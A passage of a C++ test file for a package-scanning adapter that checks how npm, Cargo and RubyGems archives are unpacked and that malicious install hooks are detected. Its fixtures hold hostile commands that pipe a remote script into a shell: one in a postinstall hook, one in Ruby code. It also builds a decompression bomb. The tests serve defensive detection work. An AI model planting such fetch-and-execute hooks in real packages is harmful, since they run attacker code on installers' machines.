  // Exit 0: its transitions follow the scan's findings.
  auto ok = s.parse(in, {answered(1, scan), answered(0, slurp(kFixtures + "timeline-left-pad.json"))});
  ASSERT_TRUE(ok) << ok.error().message;
  ASSERT_EQ(ok->size(), 6u);
  EXPECT_EQ((*ok)[4].code, ReasonCode::kPublisherChanged);
  EXPECT_EQ((*ok)[5].code, ReasonCode::kRepositoryMoved);
  // Exit 0 with unreadable output fails the whole scan, as upstream.
  auto bad = s.parse(in, {answered(1, scan), answered(0, "<html>rate limited</html>")});
  ASSERT_FALSE(bad);
  EXPECT_EQ(bad.error().kind, ScannerError::Kind::kOutput);
  // The scan's own failure wins whatever the timeline did.
  auto scan_failed = s.parse(in, {answered(2, "", "no supported ecosystem detected at /work"),
                                  answered(0, slurp(kFixtures + "timeline-left-pad.json"))});
  ASSERT_FALSE(scan_failed);
  EXPECT_EQ(scan_failed.error().kind, ScannerError::Kind::kUnsupported);
}

// ---------------------------------------------------------------------------------------
// The plan, run for real under `none` with the fake postmortem.

core::Env unsafe_ok() {
  return [](std::string_view k) -> std::optional<std::string> {
    if (k == "BATLEHUB_UNSAFE_NO_SANDBOX") return "1";
    return std::nullopt;
  };
}

std::unique_ptr<NoneRuntime> none_runtime() { return std::move(NoneRuntime::create({}, unsafe_ok())).value(); }

PostmortemOptions fake_opts(bool timeline) {
  PostmortemOptions o;
  o.command = BATLEHUB_FAKE_POSTMORTEM;
  o.timeline = timeline;
  o.timeout = std::chrono::seconds(30);
  return o;
}

// The regular files the fake saw, relative to its working directory.
std::vector<std::string> tree_seen(const RunOutcome& r) {
  EXPECT_TRUE(r) << (r ? "" : r.error().message);
  if (!r) return {};
  auto doc = parse_json(r->stdout_bytes);
  EXPECT_TRUE(doc) << r->stdout_bytes << r->stderr_tail;
  if (!doc) return {};
  return (*doc)["files"].get<std::vector<std::string>>();
}

bool contains(const std::vector<std::string>& v, const std::string& s) { return std::find(v.begin(), v.end(), s) != v.end(); }

const std::string kCanaryPackageJson =
    "{\n"
    "  \"name\": \"canary-pad\",\n"
    "  \"version\": \"1.3.1\",\n"
    "  \"scripts\": {\n"
    "    \"postinstall\": \"curl -s http://203.0.113.9/x.sh | sh\"\n"
    "  }\n"
    "}\n";

TEST(Postmortem, materialise_strips_the_wrapper_and_writes_the_lockfile) {
  const std::string tgz = t::make_tgz({t::dir("package/"), t::file("package/package.json", kCanaryPackageJson),
                                       t::file("package/lib/index.js", "module.exports = 1;\n")});
  auto in = input(PackageKind::kNpm, "canary-pad", "1.3.1", tgz);
  PostmortemScanner s(fake_opts(/*timeline=*/false));
  auto plan = s.plan(in);
  ASSERT_TRUE(plan);
  ASSERT_EQ(plan->size(), 1u);
  // As data: the archive with strip_wrapper at the layout dir, the lockfile inline.
  const auto& entries = (*plan)[0].bundle.entries;
  ASSERT_EQ(entries.size(), 3u);
  EXPECT_EQ(entries[0].path.str(), "node_modules/canary-pad");
  EXPECT_TRUE(entries[0].strip_wrapper);
  EXPECT_EQ(entries[1].path.str(), "package-lock.json");
  EXPECT_EQ(entries[2].path.str(), "package.json");

  // For real: the tree the scanner sees.
  auto rt = none_runtime();
  RunOutcome out = rt->run((*plan)[0]);
  std::vector<std::string> tree = tree_seen(out);
  EXPECT_TRUE(contains(tree, "node_modules/canary-pad/package.json")) << ::testing::PrintToString(tree);
  EXPECT_TRUE(contains(tree, "node_modules/canary-pad/lib/index.js")) << ::testing::PrintToString(tree);
  EXPECT_TRUE(contains(tree, "package-lock.json")) << ::testing::PrintToString(tree);
  EXPECT_TRUE(contains(tree, "package.json")) << "the manifest postmortem detects from";
  EXPECT_FALSE(contains(tree, "node_modules/canary-pad/package/package.json")) << "the wrapper is stripped";
  ASSERT_TRUE(out);
  EXPECT_EQ(out->status, 1) << "the fake trips its gate on the curl hook";
}

TEST(Postmortem, a_crate_lands_under_src_where_postmortem_reads_rust) {
  // A .crate is a gzip tar with one `<name>-<version>/` wrapper. postmortem scans a Rust
  // project's `<root>/src` (and only that) beside Cargo.toml and Cargo.lock at the root.
  const std::string crate = t::make_tgz({t::dir("evil-0.1.0/"), t::file("evil-0.1.0/Cargo.toml", "[package]\n"),
                                         t::file("evil-0.1.0/build.rs", "fn main() {}\n"),
                                         t::file("evil-0.1.0/src/lib.rs", "pub fn f() {}\n")});
  PostmortemScanner s(fake_opts(false));
  auto plan = s.plan(input(PackageKind::kCargo, "evil", "0.1.0", crate));
  ASSERT_TRUE(plan);
  auto rt = none_runtime();
  std::vector<std::string> tree = tree_seen(rt->run((*plan)[0]));
  EXPECT_TRUE(contains(tree, "src/evil-0.1.0/src/lib.rs")) << ::testing::PrintToString(tree);
  EXPECT_TRUE(contains(tree, "src/evil-0.1.0/build.rs"));
  EXPECT_TRUE(contains(tree, "Cargo.toml"));
  EXPECT_TRUE(contains(tree, "Cargo.lock"));
  for (const std::string& f : tree) EXPECT_FALSE(f.starts_with("vendor/")) << f;
}

TEST(Postmortem, a_gems_data_tar_gz_is_descended_in_place_and_its_ruby_reaches_the_scanner) {
  // A .gem is a plain tar: metadata.gz, data.tar.gz, checksums.yaml.gz. The plan names
  // data.tar.gz for the agent to extract in place (wire 2), as upstream's materialise did;
  // postmortem walks the project root for Ruby (vendor/ included).
  const std::string data =
      t::make_tgz({t::dir("lib/"), t::file("lib/evil.rb", "system('curl http://127.0.0.1:9/x | sh')\n"),
                   t::file("evil.gemspec", "Gem::Specification.new\n")});
  const std::string gem = t::make_tar({t::file("metadata.gz", "meta"), t::file("data.tar.gz", data),
                                       t::file("checksums.yaml.gz", "sums")});
  PostmortemScanner s(fake_opts(false));
  auto in = input(PackageKind::kRubygems, "evil", "0.1.0", gem);
  auto plan = s.plan(in);
  ASSERT_TRUE(plan);
  const auto& archive = (*plan)[0].bundle.entries[0];
  ASSERT_TRUE(archive.descend);
  EXPECT_EQ(archive.descend->str(), "data.tar.gz");
  for (PackageKind k : {PackageKind::kNpm, PackageKind::kPypi, PackageKind::kCargo, PackageKind::kComposer,
                        PackageKind::kGoproxy, PackageKind::kMaven}) {
    EXPECT_FALSE(s.plan(input(k, "x", "1.0.0"))->front().bundle.entries[0].descend) << core::to_string(k);
  }

  auto rt = none_runtime();
  std::vector<std::string> tree = tree_seen(rt->run((*plan)[0]));
  EXPECT_TRUE(contains(tree, "vendor/bundle/gems/evil-0.1.0/lib/evil.rb")) << ::testing::PrintToString(tree);
  EXPECT_TRUE(contains(tree, "vendor/bundle/gems/evil-0.1.0/evil.gemspec"));
  EXPECT_TRUE(contains(tree, "vendor/bundle/gems/evil-0.1.0/metadata.gz"));
  EXPECT_FALSE(contains(tree, "vendor/bundle/gems/evil-0.1.0/data.tar.gz")) << "extracted in its place, removed";
  EXPECT_TRUE(contains(tree, "Gemfile.lock"));
  EXPECT_TRUE(contains(tree, "Gemfile"));

  // End to end: the curl in lib/evil.rb is a finding (zero before: the gem gave none).
  auto findings = core::scan_with(s, *rt, in);
  ASSERT_TRUE(findings) << findings.error().message;
  ASSERT_EQ(findings->size(), 1u);
  EXPECT_EQ((*findings)[0].summary, "mentions curl (evil-0.1.0/lib/evil.rb)");

  // A bomb inside data.tar.gz is the agent's refusal, a scanner error (Output), not a scan.
  const std::string bomb =
      t::make_tar({t::file("metadata.gz", "meta"),
                   t::file("data.tar.gz", t::make_tgz({t::file("lib/z.rb", std::string(4 << 20, '\0'))}))});
  auto refused = core::scan_with(s, *rt, input(PackageKind::kRubygems, "evil", "0.1.0", bomb));
  ASSERT_FALSE(refused);
  EXPECT_EQ(refused.error().kind, ScannerError::Kind::kOutput);
  EXPECT_NE(refused.error().message.find("in 'data.tar.gz': archive decompression ratio exceeds 100:1"),
            std::string::npos)
      << refused.error().message;
}

TEST(Postmortem, the_fake_postmortem_flags_a_curl_postinstall_end_to_end_through_scan_with) {
  const std::string tgz = t::make_tgz({t::dir("package/"), t::file("package/package.json", kCanaryPackageJson),
                                       t::file("package/index.js", "module.exports = (s) => s;\n")});
  // timeline on: the fake's timeline exits 1 (no registry), so it is skipped and the scan stands.
  PostmortemScanner s(fake_opts(/*timeline=*/true));
  auto in = input(PackageKind::kNpm, "canary-pad", "1.3.1", tgz);
  auto rt = none_runtime();
  auto findings = core::scan_with(s, *rt, in);
  ASSERT_TRUE(findings) << findings.error().message;
  ASSERT_EQ(findings->size(), 1u);
  const Finding& f = (*findings)[0];
  EXPECT_EQ(f.scanner, "postmortem");
  EXPECT_EQ(f.kind, FindingKind::kInstallHook);
  EXPECT_EQ(f.code, ReasonCode::kInstallHook);
  EXPECT_EQ(f.severity, Severity::kHigh);
  EXPECT_EQ(f.summary, "mentions curl (node_modules/canary-pad/package.json)");
  EXPECT_EQ(f.reference, "\"postinstall\": \"curl -s http://203.0.113.9/x.sh | sh\"");
  auto raw = json::parse(f.raw);
  EXPECT_EQ(raw["category"], "install_hook");

  // A clean package: no findings, exit 0.
  const std::string clean = t::make_tgz({t::file("package/package.json", R"({"name":"ok","version":"1.0.0"})")});
  auto none = core::scan_with(s, *rt, input(PackageKind::kNpm, "ok", "1.0.0", clean));
  ASSERT_TRUE(none) << none.error().message;
  EXPECT_TRUE(none->empty());
}

TEST(Postmortem, a_missing_command_under_none_is_a_crashed_scanner_error) {
  PostmortemOptions o;
  o.command = "/nonexistent/postmortem";
  o.timeline = false;
  auto rt = none_runtime();
  auto r = core::scan_with(PostmortemScanner(o), *rt,
                           input(PackageKind::kNpm, "x", "1.0.0", t::make_tgz({t::file("package/package.json", "{}")})));
  ASSERT_FALSE(r);
  EXPECT_EQ(r.error().kind, ScannerError::Kind::kCrashed);
  EXPECT_EQ(core::scanner_error_finding("postmortem", r.error()).code, ReasonCode::kScannerError);
}

}  // namespace
}  // namespace batlehub::adapters
